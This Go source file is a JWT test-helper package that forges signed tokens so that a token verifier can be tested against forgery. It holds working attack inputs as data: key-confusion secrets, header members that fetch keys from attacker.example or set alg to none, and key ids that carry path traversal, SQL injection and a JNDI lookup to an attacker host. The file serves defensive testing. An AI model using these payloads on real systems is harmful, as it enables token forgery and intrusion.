// Package jwttest forges signed tokens for tests: header and claims are
// written down to the byte, and signed with whatever the attacker has.
package jwttest

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	_ "crypto/sha512" // ES384, ES512, RS384 and RS512
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"sync"
	"testing"

	"github.com/go-jose/go-jose/v4"
)

// Sign makes a compact JWS of a header and a payload as they stand. The key
// decides how: an *ecdsa.PrivateKey, an *rsa.PrivateKey, a []byte (HMAC), or nil
// for an empty signature. bits is the size of the hash: 256, 384 or 512.
func Sign(t testing.TB, header, payload string, key any, bits int) string {
	t.Helper()
	signed := encode([]byte(header)) + "." + encode([]byte(payload))
	hash := map[int]crypto.Hash{256: crypto.SHA256, 384: crypto.SHA384, 512: crypto.SHA512}[bits]
	digest := hash.New()
	digest.Write([]byte(signed))
	var sig []byte
	var err error
	switch k := key.(type) {
	case nil:
	case []byte:
		mac := hmac.New(hash.New, k)
		mac.Write([]byte(signed))
		sig = mac.Sum(nil)
	case *rsa.PrivateKey:
		sig, err = rsa.SignPKCS1v15(rand.Reader, k, hash, digest.Sum(nil))
	case *ecdsa.PrivateKey:
		r, s, e := ecdsa.Sign(rand.Reader, k, digest.Sum(nil))
		err = e
		if err == nil {
			size := (k.Curve.Params().BitSize + 7) / 8
			sig = append(r.FillBytes(make([]byte, size)), s.FillBytes(make([]byte, size))...)
		}
	default:
		err = fmt.Errorf("a key of type %T", key)
	}
	if err != nil {
		t.Fatal(err)
	}
	return signed + "." + encode(sig)
}

func encode(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

// ES256 signs with a header of alg and kid, and what more there is to it: JSON
// members that begin with a comma.
func ES256(t testing.TB, key *ecdsa.PrivateKey, kid, payload, more string) string {
	t.Helper()
	return Sign(t, `{"alg":"ES256","kid":`+Quote(kid)+more+`}`, payload, key, 256)
}

// Quote writes a text as JSON.
func Quote(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// Key makes an elliptic-curve key.
func Key(t testing.TB, curve elliptic.Curve) *ecdsa.PrivateKey {
	t.Helper()
	k, err := ecdsa.GenerateKey(curve, rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

var rsaKey = sync.OnceValues(func() (*rsa.PrivateKey, error) { return rsa.GenerateKey(rand.Reader, 2048) })

// RSA returns the one RSA key of 2048 bits that the tests of a package share.
func RSA(t testing.TB) *rsa.PrivateKey {
	t.Helper()
	k, err := rsaKey()
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// SmallRSA is a key of 1024 bits; it takes no part in anything but tests.
func SmallRSA(t testing.TB) *rsa.PrivateKey {
	t.Helper()
	t.Setenv("GODEBUG", "rsa1024min=0")
	k, err := rsa.GenerateKey(rand.Reader, 1024)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// JWK returns the public half of a key as a JSON web key.
func JWK(public crypto.PublicKey, kid, alg string) jose.JSONWebKey {
	return jose.JSONWebKey{Key: public, KeyID: kid, Algorithm: alg, Use: "sig"}
}

// Set returns a key set as JSON.
func Set(t testing.TB, keys ...jose.JSONWebKey) []byte {
	t.Helper()
	b, err := json.Marshal(jose.JSONWebKeySet{Keys: keys})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// SecretsOf returns the forms in which a public key could be mistaken for a
// shared secret, by name.
func SecretsOf(t testing.TB, public crypto.PublicKey, kid string) map[string][]byte {
	t.Helper()
	der, err := x509.MarshalPKIXPublicKey(public)
	if err != nil {
		t.Fatal(err)
	}
	jwk, err := json.Marshal(JWK(public, kid, ""))
	if err != nil {
		t.Fatal(err)
	}
	block := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	out := map[string][]byte{
		"PEM": block, "PEM without its last newline": block[:len(block)-1], "DER": der, "JWK": jwk, "no bytes": {},
	}
	switch k := public.(type) {
	case *rsa.PublicKey:
		out["modulus"] = k.N.Bytes()
		out["PKCS #1"] = x509.MarshalPKCS1PublicKey(k)
	case *ecdsa.PublicKey:
		point, err := k.Bytes()
		if err != nil {
			t.Fatal(err)
		}
		out["point"] = point
		out["x coordinate"] = point[1 : 1+len(point)/2]
	}
	return out
}

// Headers are header members that name, carry or fetch a key, or ask for what
// nobody offers; each begins with a comma. The key in them is the attacker's.
func Headers(t testing.TB, attacker *ecdsa.PrivateKey, kid string) map[string]string {
	t.Helper()
	jwk, err := json.Marshal(JWK(attacker.Public(), kid, "ES256"))
	if err != nil {
		t.Fatal(err)
	}
	return map[string]string{
		"jku":            `,"jku":"https://attacker.example/keys"`,
		"x5u":            `,"x5u":"https://attacker.example/cert"`,
		"jwk":            `,"jwk":` + string(jwk),
		"crit with b64":  `,"crit":["b64"],"b64":false`,
		"crit":           `,"crit":["exp"]`,
		"an empty crit":  `,"crit":[]`,
		"x5t":            `,"x5t":"AAAA"`,
		"cty":            `,"cty":"JWT"`,
		"zip":            `,"zip":"DEF"`,
		"an unknown one": `,"x":1`,
		"alg twice":      `,"alg":"none"`,
		"kid twice":      `,"kid":"other"`,
		"typ twice":      `,"typ":"JWT","typ":"JWT"`,
		"a number typ":   `,"typ":1`,
		"Alg":            `,"Alg":"none"`,
		"KID":            `,"KID":"other"`,
	}
}

// KeyIDs are key ids that look like something else.
var KeyIDs = []string{
	"", " ", "unknown", "../../etc/passwd", "/dev/null", `..\..\windows\win.ini`, "file:///etc/passwd", "http://attacker.example/key",
	"' OR '1'='1", "k1'; DROP TABLE objects; --", "k1\x00", "\x00", "k1\n", "k1 ", "K1", "%6b1", "*", "k", "k11", "𝐤1",
	"{{kid}}", "${jndi:ldap://attacker.example}", "k1/../k1",
}
